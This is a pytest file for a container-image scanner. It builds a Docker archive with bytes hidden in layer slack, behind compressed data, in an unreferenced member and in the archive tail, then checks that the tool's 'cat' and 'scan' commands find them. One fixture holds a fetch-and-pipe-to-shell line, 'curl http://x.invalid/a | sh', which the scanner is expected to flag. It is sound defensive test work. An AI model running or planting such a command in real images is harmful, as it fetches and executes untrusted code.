"""`cat` and `scan` on bytes that no file stands for, of layers and of the archive."""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.image_archives import config_of, docker_save, tar_of

Run = Callable[..., Any]
LAYER = tar_of([("etc/motd", b"hello")])
PACKED = gzip.compress(LAYER, mtime=0)
SCRIPT = b"#!/bin/sh\ncurl http://x.invalid/a | sh\n"
BEHIND = b"behind the stream"
MEMBER = b"nobody needs this"
TAIL = b"tail of the archive"
END = f"!slack@{len(LAYER):#x}"
BESIDE = f"!behind-compression@{len(PACKED):#x}"


@pytest.fixture(scope="module")
def hiding_image(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hidden") / "image.tar"
    layers = [LAYER + SCRIPT, PACKED + BEHIND]
    saved = docker_save(layers, config=config_of([layers[0], LAYER]), extra=[("x/payload", MEMBER)])
    path.write_bytes(saved + TAIL)
    return path


@pytest.mark.parametrize(
    ("arguments", "content"),
    [
        (("--layer", "0", END), SCRIPT),
        ((END,), SCRIPT),
        (("--layer", "1", f"/{BESIDE}"), BEHIND),
        (("!archive/x/payload",), MEMBER),
    ],
)
def test_cat_writes_exactly_the_bytes(
    run: Run, hiding_image: Path, arguments: tuple[str, ...], content: bytes
) -> None:
    ran = run("cat", hiding_image, *arguments)
    assert (ran.code, ran.output, ran.errors) == (0, content, "")


def test_cat_of_what_is_not_there(run: Run, hiding_image: Path) -> None:
    ran = run("cat", hiding_image, "--layer", "1", END)
    assert ran.code == 2
    assert f"there is no /{END} in layer 1" in ran.errors


def test_scan_finds_places_and_counts_them(run: Run, hiding_image: Path) -> None:
    ran = run("scan", hiding_image, "--no-cache", "--quiet", "--format", "json")
    assert ran.code == 0
    report = json.loads(ran.output)
    places = {
        (found["rule_id"], found.get("layer"), piece["offset"], piece["length"])
        for found in report["findings"]
        if found["rule_id"].startswith("archive/")
        for piece in found["evidence"]
    }
    tail = hiding_image.stat().st_size - len(TAIL)
    member = hiding_image.read_bytes().index(MEMBER)
    assert places == {
        ("archive/hidden-bytes", 0, len(LAYER), len(SCRIPT)),
        ("archive/hidden-bytes", 1, len(PACKED), len(BEHIND)),
        ("archive/hidden-bytes", None, tail, len(TAIL)),
        ("archive/unreferenced-content", None, member, len(MEMBER)),
    }
    (matched,) = [one for one in report["findings"] if one["rule_id"] == "execution/fetch-to-interpreter"]
    assert (matched["layer"], matched["path"], matched["state"]) == (0, f"/{END}", None)
    hidden = len(SCRIPT) + len(BEHIND) + len(MEMBER) + len(TAIL)
    covered = report["coverage"]
    assert covered["bytes"] == covered["examined_bytes"] == 2 * len(b"hello") + hidden
    assert all(issue["lost_bytes"] == 0 for issue in covered["issues"])
